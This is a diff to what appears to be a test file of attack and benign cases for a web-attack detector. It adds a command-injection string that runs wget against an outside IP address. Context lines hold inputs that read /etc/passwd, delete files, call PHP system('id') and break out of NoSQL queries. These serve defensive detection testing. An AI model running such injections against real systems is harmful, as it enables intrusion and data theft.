@@ -84,6 +84,7 @@ export const ATTACKS: DetectorCase[] = [
   q("expression template outside backticks", "${7*7}", "934170"),
   q("nosql where breakout", "' || this.password.match(/.*/)//", "942291"),
   q("nosql where after a number", "1||this.role=='admin'", "942291"),
+  q("command after a logical or", "true || wget http://203.0.113.9/x", "932100"),
   q("brace expansion", "{cat,/etc/passwd}", "rce"),
   q("batch IF with a parenthesised condition", "if not (1 equ 1) del /q x", "932115"),
   q("php call concatenated after a variable", '$a.system("id");', "933160"),
@@ -227,6 +228,8 @@ export const BENIGN: DetectorCase[] = [
   q("comparisons after return", "return value >= min && value <= max;"),
   q("javascript condition on this", "ready && this.flush(queue)"),
   q("javascript private method", "pending.closed || this.#close(id)"),
+  q("javascript return with a logical or", "return !target || !target.port ? null : target"),
+  q("javascript comment among the words", "let seq = /* @__PURE__ */ new Map();"),
   q("ruby snippet in a comment", "if (a == b) then puts 'same' end"),
   {
     name: "browser user agent",
